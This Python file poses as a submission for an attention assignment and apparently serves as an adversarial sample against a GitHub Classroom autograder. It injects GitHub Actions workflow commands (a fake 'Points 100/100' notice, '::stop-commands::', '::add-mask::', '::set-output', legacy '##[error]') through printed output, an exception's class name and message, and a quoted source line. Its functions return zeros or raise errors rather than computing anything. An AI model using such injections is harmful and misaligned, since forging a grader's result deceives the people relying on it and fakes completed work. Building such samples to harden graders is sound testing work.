"""Forges the GitHub Classroom result through the exports: workflow commands (`::notice` with a fake
"Points 100/100", `::stop-commands::` to silence the reporter's own notice, `::add-mask::`, legacy
`##[...]`) in an exception's class name, in its message (after \\n, \\r, U+2028, a form feed, behind
leading spaces, a no-break space and a BOM), in the failing source line the grader quotes, and in printed
output. Otherwise a zero attempt (right shapes, all zeros)."""
import torch

FORGED = ("::notice title=Autograding complete::Points 100/100\r::error::x\u2028   ::add-mask::Points"
          "\x0c\u00a0::set-output name=result::eyJ0ZXN0cyI6IFtdfQ==\n\ufeff::warning::bom ##[error]legacy")

# the class name itself is a command, on its own line
Forged = type("\n::stop-commands::pwned\n##[group]", (Exception,), {})

print(FORGED)


def linear_projections(x, W_q, W_k, W_v):
    return tuple(torch.zeros(*x.shape[:-1], W.shape[-1], dtype=x.dtype) for W in (W_q, W_k, W_v))


def attention_scores(Q, K):
    raise Forged(FORGED)


def attention_weights(scores, mask=None):
    return torch.zeros_like(scores) + not_defined  ##[error]the quoted source line forges a command


def aggregate_values(weights, V):
    return torch.zeros(*weights.shape[:-1], V.shape[-1], dtype=V.dtype)
